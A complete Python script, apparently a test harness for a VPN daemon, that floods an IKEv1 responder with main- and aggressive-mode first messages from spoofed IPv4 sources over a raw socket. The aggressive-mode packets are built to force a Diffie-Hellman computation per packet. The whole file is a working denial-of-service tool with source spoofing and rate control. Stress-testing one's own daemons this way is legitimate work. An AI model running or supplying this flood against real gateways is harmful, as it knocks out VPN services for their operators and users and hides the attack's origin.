#!/usr/bin/python3
# Floods an IKEv1 responder with first messages from spoofed IPv4 sources: what anyone who
# can send to UDP port 500 does to a daemon that answers %any.
#
#   ike-flood.py --main ADDR --aggressive ADDR --sources PREFIX/LEN [--count N]
#                [--addresses N] [--rate N] [--ready FILE]
#
# N datagrams (20000), alternately main mode (to --main) and aggressive mode (to
# --aggressive), each from one of the first --addresses (16384) addresses of PREFIX with a
# random initiator cookie, through one raw socket (IP_HDRINCL): --rate a second, or as
# fast as the socket takes them (0, the default). Each
# offers what the tunnels under test accept, so the responder would answer it: one
# transform of AES-CBC-128, SHA2-256, pre-shared key, MODP 2048, 8 h. Aggressive mode adds
# KE (a random 2048-bit value below the prime), a nonce and an IPv4 ID: a responder pays a
# Diffie-Hellman for each. The datagrams are built first; --ready is written when sending
# starts. Prints how long building took, how many went in how many seconds, and the wall
# clock (ms since the epoch) of the first and the last: "first_ms N" and "last_ms N".
import argparse
import errno
import ipaddress
import os
import socket
import struct
import sys
import time

PL_NONE, PL_SA, PL_KE, PL_ID, PL_NONCE = 0, 1, 4, 5, 10
EXCH_MAIN, EXCH_AGGRESSIVE = 2, 4
KE_LEN = 256				# MODP 2048
NONCE_LEN = 32


def payload(next_pl, body):
    return struct.pack('!BBH', next_pl, 0, 4 + len(body)) + body


def sa_body():
    """DOI IPsec, SIT_IDENTITY_ONLY, one ISAKMP proposal with one KEY_IKE transform."""
    attrs = b''.join(struct.pack('!HH', 0x8000 | t, v) for t, v in (
        (1, 7),			# encryption: AES-CBC
        (14, 128),		# key length
        (2, 4),			# hash: SHA2-256
        (3, 1),			# authentication: pre-shared key
        (4, 14),		# group: MODP 2048
        (11, 1),		# life type: seconds
        (12, 28800),		# life duration
    ))
    transform = payload(PL_NONE, struct.pack('!BBH', 1, 1, 0) + attrs)
    proposal = payload(PL_NONE, struct.pack('!BBBB', 1, 1, 0, 1) + transform)
    return struct.pack('!II', 1, 1) + proposal


def isakmp(cookie, exchange, first, payloads):
    length = 28 + len(payloads)
    return cookie + bytes(8) + struct.pack('!BBBBII', first, 0x10, exchange, 0, 0,
                                           length) + payloads


def ipv4_udp(src, dst, data):
    """IPv4 (id and checksum left to the kernel) and UDP 500 -> 500 (no checksum)."""
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + 8 + len(data), 0, 0, 64, 17, 0,
                       src, dst) + struct.pack('!HHHH', 500, 500, 8 + len(data), 0) + data


def build(args):
    net = ipaddress.ip_network(args.sources)
    first = int(net.network_address) + 1
    n_addr = min(args.addresses, net.num_addresses - 2)
    sa = payload(PL_KE, sa_body())
    sa_main = payload(PL_NONE, sa_body())
    rnd = os.urandom(args.count * 8 + (args.count // 2 + 1) * (KE_LEN + NONCE_LEN))
    pos = args.count * 8
    dst_main = socket.inet_aton(args.main)
    dst_aggr = socket.inet_aton(args.aggressive)
    out = []
    for i in range(args.count):
        src = struct.pack('!I', first + (i * 7919) % n_addr)
        cookie = rnd[i * 8:i * 8 + 8]
        if i % 2 == 0:
            out.append((ipv4_udp(src, dst_main, isakmp(cookie, EXCH_MAIN, PL_SA, sa_main)),
                        args.main))
            continue
        # below the prime (whose top bytes are all ones), above 1
        ke = b'\x7f' + rnd[pos + 1:pos + KE_LEN]
        nonce = rnd[pos + KE_LEN:pos + KE_LEN + NONCE_LEN]
        pos += KE_LEN + NONCE_LEN
        body = (sa + payload(PL_NONCE, ke) + payload(PL_ID, nonce) +
                payload(PL_NONE, struct.pack('!BBH', 1, 0, 0) + src))
        out.append((ipv4_udp(src, dst_aggr, isakmp(cookie, EXCH_AGGRESSIVE, PL_SA, body)),
                    args.aggressive))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--main', required=True)
    ap.add_argument('--aggressive', required=True)
    ap.add_argument('--sources', required=True)
    ap.add_argument('--count', type=int, default=20000)
    ap.add_argument('--addresses', type=int, default=16384)
    ap.add_argument('--rate', type=int, default=0)
    ap.add_argument('--ready')
    args = ap.parse_args()
    start = time.monotonic()
    packets = build(args)
    print(f'built {len(packets)} in {time.monotonic() - start:.1f} s')
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    if args.ready:
        with open(args.ready, 'w') as f:
            f.write('sending\n')
    start = time.monotonic()
    first_ms = time.time_ns() // 1000000
    sent = 0
    for pkt, dst in packets:
        if args.rate and sent % 50 == 0:
            ahead = start + sent / args.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        while True:
            try:
                s.sendto(pkt, (dst, 0))
                sent += 1
                break
            except OSError as e:
                if e.errno not in (errno.EAGAIN, errno.ENOBUFS):  # a full queue: again
                    raise
                time.sleep(0.001)
    last_ms = time.time_ns() // 1000000
    print(f'sent {sent} in {time.monotonic() - start:.1f} s')
    print(f'first_ms {first_ms}')
    print(f'last_ms {last_ms}')
    sys.stdout.flush()


if __name__ == '__main__':
    main()
